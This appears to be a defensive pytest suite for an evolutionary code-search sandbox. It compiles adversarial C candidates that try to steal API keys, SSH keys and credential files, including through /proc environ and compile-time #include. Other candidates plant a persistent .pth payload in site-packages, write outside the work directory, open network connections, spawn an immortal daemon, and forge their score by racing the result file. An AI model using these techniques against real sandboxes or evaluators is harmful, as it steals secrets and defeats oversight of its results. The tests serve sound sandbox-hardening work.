"""The sandbox's attack suite, written in C: a compiled candidate gets out no more than a Python one.

A task folder in C (split contract: the program prints a tour of 12 cities on a convex polygon, the
task's score() measures it in a child of its own; an honest program scores exactly 1.0) is attacked by
programs that read secrets (the environment, other processes, HOME, the archive, at run time and at
compile time through #include), write outside their work directory (a .pth file in site-packages, the
archive's folder, the task folder, HOME, the evomcp package), reach the network, outlive their
evaluation (a daemon in its own session without a parent-death signal) and forge a score (result.json
rewritten by a daemon racing the sandbox). Each runs at every sandbox level (tests/test_adversarial.py's
`sandbox` fixture), and afterwards the checks of tests/test_attacks.py hold: an honest candidate scores
exactly 1.0, the archive holds no secret and no impossible score, no process of the attack is alive and
no file changed outside the work directory.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys

import anyio
import pytest

from evomcp.tools import steps
from evomcp.tools.errors import EvoError
from evomcp.tools.workspace import open_workspace
from test_adversarial import sandbox  # noqa: F401 - the fixture: one run per sandbox level
from test_attacks import (ATTACK_TAG, CANARIES, HOME_CANARY, PACKAGE_DIRS, SECRET, SITE_PACKAGES, SSH_CANARY, Arena,
                          kill_marked, make_home, refused, reported, verdict)

pytestmark = pytest.mark.skipif(shutil.which("gcc") is None, reason="gcc is not installed here (apt install gcc)")
BUDGET_S = 180

SEED = """#include <stdio.h>

// 12 cities on a convex polygon (evaluate.py holds their coordinates): in order, the shortest tour.
// EVOLVE-BLOCK-START
void tour(int *order, int n) {
    for (int i = 0; i < n; i++)
        order[i] = i;
}
// EVOLVE-BLOCK-END

int main(void) {
    int order[12];
    tour(order, 12);
    for (int i = 0; i < 12; i++)
        printf("%d%c", order[i], i < 11 ? ' ' : '\\n');
    return 0;
}
"""

EVALUATE = '''import math

ENTRY = "main"
POINTS = [(round(1000 * math.cos(2 * math.pi * k / 12)), round(1000 * math.sin(2 * math.pi * k / 12)))
          for k in range(12)]


def _length(order):
    return sum(math.dist(POINTS[order[i - 1]], POINTS[order[i]]) for i in range(len(order)))


def score(data):
    if not isinstance(data, str) or len(data) > 10000:
        return {"combined_score": 0.0, "correct": False, "error": "print a tour as text"}
    words = data.split()
    if len(words) != 12 or not all(w.isascii() and w.isdigit() for w in words):
        return {"combined_score": 0.0, "correct": False, "error": "print 12 city indices"}
    order = [int(w) for w in words]
    if sorted(order) != list(range(12)):
        return {"combined_score": 0.0, "correct": False, "error": "not a permutation of the 12 cities"}
    return {"combined_score": _length(list(range(12))) / _length(order), "correct": True}
'''

# What every attack's block starts with: reporting as JSON on stdout ("REPORT{...}", read by
# test_attacks.report_of), reading and writing files with the reason when refused.
HELPERS = r"""#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

static char report_buffer[65536];
static size_t report_length = 0;

static void say(const char *key, const char *value) {
    char escaped[8192];
    size_t j = 0;
    for (const unsigned char *p = (const unsigned char *)value; *p && j < sizeof escaped - 8; p++) {
        if (*p == '"' || *p == '\\') {
            escaped[j++] = '\\';
            escaped[j++] = (char)*p;
        } else if (*p < 0x20 || *p >= 0x7f) {
            j += (size_t)sprintf(escaped + j, "\\u%04x", *p);
        } else {
            escaped[j++] = (char)*p;
        }
    }
    escaped[j] = 0;
    report_length += (size_t)snprintf(report_buffer + report_length, sizeof report_buffer - report_length,
                                      "%s\"%s\": \"%s\"", report_length ? ", " : "", key, escaped);
}

static void report(void) {
    printf("REPORT{%s}\n", report_buffer);
    fflush(stdout);
    exit(1);
}

static void refusal(const char *key) {
    char why[256];
    snprintf(why, sizeof why, "refused: %s", strerror(errno));
    say(key, why);
}

static void grab(const char *key, const char *path) {
    char data[256];
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    if (fd < 0) {
        refusal(key);
        return;
    }
    ssize_t got = read(fd, data, sizeof data - 1);
    close(fd);
    if (got < 0) {
        refusal(key);
        return;
    }
    data[got] = 0;
    say(key, data);
}

static void put(const char *key, const char *path, const char *text) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0 || write(fd, text, strlen(text)) < 0) {
        refusal(key);
    } else {
        say(key, "written");
    }
    if (fd >= 0)
        close(fd);
}

static void reach(const char *key, const char *address, int port) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in to;
    memset(&to, 0, sizeof to);
    to.sin_family = AF_INET;
    to.sin_port = htons((unsigned short)port);
    to.sin_addr.s_addr = inet_addr(address);
    if (s < 0 || connect(s, (struct sockaddr *)&to, sizeof to) != 0)
        refusal(key);
    else
        say(key, "connected");
    if (s >= 0)
        close(s);
}

"""


def c_string(value: str) -> str:
    return json.dumps(value)  # ASCII paths and tags: a JSON string is a C string literal


def attack(body: str, **values: str) -> str:
    """The seed with its EVOLVE-BLOCK replaced by the helpers and `body` (which defines tour()); @NAME@ is
    replaced by the C string of values[NAME]."""
    for key, value in values.items():
        body = body.replace(f"@{key}@", c_string(value))
    assert "@" not in body.replace("@@", ""), body
    head, rest = SEED.split("// EVOLVE-BLOCK-START\n")
    return head + "// EVOLVE-BLOCK-START\n" + HELPERS + body + "// EVOLVE-BLOCK-END\n" + rest.split(
        "// EVOLVE-BLOCK-END\n")[1]


class CArena(Arena):
    """The attack arena of tests/test_attacks.py on the C task: an honest candidate is the seed with a comment,
    and no honest program scores above 1.0 (the optimal tour)."""

    comment = "//"
    honest_s = 90  # a build comes first

    def impossible(self, score: float | None) -> bool:
        return score is not None and score > 1.0 + 1e-9


@pytest.fixture
async def carena(tmp_path, monkeypatch, sandbox):  # noqa: F811 - sandbox is the imported fixture
    home = make_home(tmp_path / "home")
    monkeypatch.setenv("HOME", str(home))  # before the workspace starts: it hides HOME's secret folders
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    monkeypatch.setenv("ANTHROPIC_API_KEY", SECRET)
    stage = CArena(tmp_path, home, sandbox)
    task = tmp_path / "c_task"
    task.mkdir()
    (task / "initial.c").write_text(SEED)
    (task / "evaluate.py").write_text(EVALUATE)
    (task / "task.toml").write_text("timeout_s = 10\n")
    try:
        async with open_workspace(stage.db, slots=2) as ws:
            stage.ws = ws
            try:
                await stage.start(str(task), task)
                assert stage.seed_score == 1.0, stage.seed
                yield stage
            finally:
                kill_marked(stage.mark)
    finally:
        stage.teardown()


# ---------------------------------------------------------------- secrets, neighbours, network


SECRETS_ATTACK = r"""
void tour(int *order, int n) {
    (void)order;
    (void)n;
    const char *key = getenv("OPENAI_API_KEY");
    say("OPENAI_API_KEY", key ? key : "");
    key = getenv("ANTHROPIC_API_KEY");
    say("ANTHROPIC_API_KEY", key ? key : "");
    grab("canary file in HOME", @HOME_CANARY_FILE@);
    grab("SSH key", @SSH_KEY@);
    grab("credentials file", @CREDENTIALS@);
    grab("archive", @ARCHIVE@);
    /* every other process's environment it can see */
    DIR *proc = opendir("/proc");
    int seen = 0;
    char holders[1024] = "";
    struct dirent *entry;
    while (proc && (entry = readdir(proc)) != NULL) {
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
            continue;
        seen++;
        char path[300], environ[65536];
        snprintf(path, sizeof path, "/proc/%s/environ", entry->d_name);
        int fd = open(path, O_RDONLY);
        if (fd < 0)
            continue;
        ssize_t got = read(fd, environ, sizeof environ - 1);
        close(fd);
        for (ssize_t i = 0; i < got; i++)
            if (environ[i] == 0)
                environ[i] = ' ';
        environ[got > 0 ? got : 0] = 0;
        if (strstr(environ, @SECRET@) != NULL && strlen(holders) < 900) {
            strcat(holders, entry->d_name);
            strcat(holders, " ");
        }
    }
    char count[32];
    snprintf(count, sizeof count, "%d", seen);
    say("processes in /proc", count);
    say("environments holding the key", holders);
    reach("TCP to the test's listener", "127.0.0.1", @PORT@);
    reach("the internet", "1.1.1.1", 53);
    report();
}
"""


async def test_c_reads_no_secret_and_reaches_no_network(carena):
    arena = carena
    with anyio.fail_after(BUDGET_S):
        listener = socket.socket()
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        port = listener.getsockname()[1]
        try:
            program, problems = await arena.attempt(code=attack(
                SECRETS_ATTACK.replace("@PORT@", str(port)), HOME_CANARY_FILE=str(arena.home / "canary.txt"),
                SSH_KEY=str(arena.home / ".ssh" / "id_rsa"), SECRET=SECRET, ARCHIVE=str(arena.db),
                CREDENTIALS=str(arena.home / ".config" / "gcloud" / "application_default_credentials.json")))
        finally:
            listener.close()
        report = reported(program, problems)
        got_out = [f"it read the {name}" for name, canary in CANARIES.items() if canary in json.dumps(report)]
        got_out += [f"{key}: {report.get(key)!r}" for key in ("TCP to the test's listener", "the internet",
                                                              "environments holding the key", "archive")
                    if not refused(report.get(key))]
        if report.get("processes in /proc") is None:
            problems.append("the attack did not get as far as /proc")
        # at compile time: the compiler, sandboxed too, reads no file of the host
        for name, path, canary in (("canary file in HOME", arena.home / "canary.txt", HOME_CANARY),
                                   ("SSH key", arena.home / ".ssh" / "id_rsa", SSH_CANARY)):
            code = attack(f"#include {c_string(str(path))}\nvoid tour(int *order, int n) {{ (void)order; (void)n; }}\n")
            try:
                await steps.propose_candidate(arena.ws, arena.run_id, arena.seed.id, code=code)
                got_out.append(f"a program including the {name} compiled")
            except EvoError as exc:
                if canary in str(exc):
                    got_out.append(f"the compiler showed the {name}: {str(exc)[:300]!r}")
                elif "does not compile" not in str(exc):
                    problems.append(f"including the {name} was refused for another reason: {str(exc)[:300]}")
        problems += await arena.aftermath()
    verdict(got_out, problems)


# ---------------------------------------------------------------- writing outside the work directory


WRITE_ATTACK = r"""
void tour(int *order, int n) {
    (void)order;
    (void)n;
    put(".pth file in site-packages", @PTH@, @PTH_LINE@);
    put("the task folder's seed", @TASK_SEED@, @PAYLOAD@);
    put("a new file in the task folder", @TASK_NEW@, @PAYLOAD@);
    put("the archive's folder", @ARCHIVE_NEW@, @PAYLOAD@);
    put("the archive", @ARCHIVE@, @PAYLOAD@);
    put("HOME", @HOME_NEW@, @PAYLOAD@);
    put("the evomcp package", @PACKAGE_NEW@, @PAYLOAD@);
    report();
}
"""


async def test_c_writes_nothing_outside_its_work_dir(carena):
    arena = carena
    with anyio.fail_after(BUDGET_S):
        marker = arena.tmp / "pwn-c-pth"
        name = f"zz_{ATTACK_TAG.replace('-', '_')}_{arena.mark}.pth"
        line = (f"import os; open({str(marker)!r}, 'w').write(os.environ.get('OPENAI_API_KEY', '') + "
                f"' {ATTACK_TAG}')\n")
        payload = f"{ATTACK_TAG} {arena.mark}\n"
        program, problems = await arena.attempt(code=attack(
            WRITE_ATTACK, PTH=str(SITE_PACKAGES / name), PTH_LINE=line, PAYLOAD=payload,
            TASK_SEED=str(arena.task_dir / "initial.c"), TASK_NEW=str(arena.task_dir / f"{ATTACK_TAG}.c"),
            ARCHIVE_NEW=str(arena.db.parent / f"{ATTACK_TAG}.db"), ARCHIVE=str(arena.db),
            HOME_NEW=str(arena.home / f".{ATTACK_TAG}rc"),
            PACKAGE_NEW=str(PACKAGE_DIRS["evomcp"] / f"{ATTACK_TAG.replace('-', '_')}.py")))
        got_out = [f"it wrote {what}" for what, result in reported(program, problems).items() if result == "written"]
        # the next Python of this venv (a server started later) would run a .pth file
        subprocess.run([sys.executable, "-c", "pass"], env={**os.environ, "OPENAI_API_KEY": SECRET}, timeout=60)
        if marker.exists():
            got_out.append(f"a newly started Python ran its .pth file: {marker.read_text()!r}")
            marker.unlink()
        problems += await arena.aftermath(restart=True)
    verdict(got_out, problems)


# ---------------------------------------------------------------- outliving the evaluation


DAEMON_ATTACK = r"""
void tour(int *order, int n) {
    for (int i = 0; i < n; i++)
        order[i] = i;
    if (fork() == 0) {
        prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0);
        setsid();
        signal(SIGHUP, SIG_IGN);
        signal(SIGTERM, SIG_IGN);
        if (fork() != 0)
            _exit(0);
        prctl(PR_SET_NAME, @MARK@, 0, 0, 0);
        close(1);
        close(2);
        for (;;)
            pause();
    }
}
"""


async def test_c_daemon_dies_with_its_evaluation(carena):
    """A daemon (double fork, its own session, no parent-death signal, SIGTERM ignored) of a program that
    otherwise finishes honestly: the program scores 1.0 and the daemon is gone."""
    arena = carena
    with anyio.fail_after(BUDGET_S):
        program, problems = await arena.attempt(code=attack(DAEMON_ATTACK, MARK=arena.mark))
        if program is None or not program.correct or program.combined_score != 1.0:
            problems.append(f"the program itself should score 1.0: {program and program.combined_score} "
                            f"({program and program.error})")
        problems += await arena.aftermath()
    verdict([], problems)


# ---------------------------------------------------------------- forging a score


FORGE_ATTACK = r"""
void tour(int *order, int n) {
    for (int i = 0; i < n; i++)
        order[i] = i;
    const char *forged = "{\"ok\": true, \"value\": {\"combined_score\": 1000.0, \"correct\": true}, "
                         "\"isolation\": \"namespaces\"}";
    put("result.json", "result.json", forged);
    put("metrics.json", "results/metrics.json", "{\"combined_score\": 1000.0}");
    printf("{\"combined_score\": 1000.0}\n");  /* a score of its own, printed with the tour */
    if (fork() == 0) {  /* rewrites its result for a while: racing the sandbox that writes the real one */
        prctl(PR_SET_NAME, @MARK@, 0, 0, 0);
        for (int k = 0; k < 400; k++) {
            int fd = open("result.json", O_WRONLY | O_CREAT | O_TRUNC, 0644);
            if (fd >= 0) {
                if (write(fd, forged, strlen(forged)) < 0) {}
                close(fd);
            }
            usleep(5000);
        }
        _exit(0);
    }
}
"""


async def test_c_cannot_forge_its_score(carena):
    arena = carena
    with anyio.fail_after(BUDGET_S):
        program, problems = await arena.attempt(code=attack(FORGE_ATTACK, MARK=arena.mark))
        got_out = []
        if program is not None and arena.impossible(program.combined_score):
            got_out.append(f"it scored {program.combined_score}")
        if program is not None and program.correct:
            got_out.append(f"a program that printed more than a tour was scored {program.combined_score}")
        problems += await arena.aftermath()
    verdict(got_out, problems)
